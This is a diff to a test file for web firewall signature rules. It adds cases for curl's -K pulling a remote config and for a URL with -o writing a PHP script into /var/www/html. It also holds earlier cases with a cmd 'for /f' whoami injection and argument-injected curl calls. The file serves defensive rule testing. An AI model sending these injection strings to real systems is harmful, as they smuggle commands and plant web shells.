@@ -3,7 +3,8 @@
  * that each part has a specific one (test/signatures/bundled-benign-candidates). 9000528 keeps the
  * hosts it spells; its hosts 0 and 127.1/127.0.1 are 9000540 (right after the `//`) and 9000541 (behind a
  * user-info part). 9000309 keeps the caret, `/v:on`, `%COMSPEC%` and substring branches; `for /f "` is
- * 9000342. 9000365 keeps `-O` right after its delimiter; 9000343 takes it after blanks. Each part fires
+ * 9000342. 9000365 keeps `-O` right after its delimiter; 9000343 takes it after blanks. 9000373 (ho27, same
+ * session) keeps curl's `-K` and Go's `-extld`; a URL followed by `-o` writing a server script is 9000344. Each part fires
  * on its attack and stays quiet on the benign text closest to it.
  */
 import { describe } from 'vitest';
@@ -21,6 +22,8 @@ const CASES: RuleCase[] = [
   [9000342, 'suspicious', 'for /f over a quoted command', form('cmd=for+/f+%22delims%3D%22+%25i+in+(%27whoami%27)+do+echo+%25i'), form('note=for+/f+see+the+docs')],
   [9000365, 'block', '-O glued to a command right after =', q('query=-Oecho+95hj9sna'), q('query=-O2+optimization+flags')],
   [9000343, 'block', '-O glued to a command after blanks', q('query=+-Ocurl+http%3A%2F%2F203.0.113.9%2Fa'), q('query=+-O2+flags')],
+  [9000373, 'block', 'curl -K naming a remote config (rev 2)', q('src=-K+https%3A%2F%2Fimg.example.net%2Fa.cfg'), q('src=https%3A%2F%2Fimg.example.net%2F-K.cfg')],
+  [9000344, 'block', 'a URL, then -o writing a server script', form('feed=https://sync.example.io/x.txt -o /var/www/html/s.php'), form('feed=https://sync.example.io/x.txt -o /tmp/x.txt')],
 ];
 
 describe('bundled rules split for specific prefilter triggers (rev 2026-12-10u)', () => {
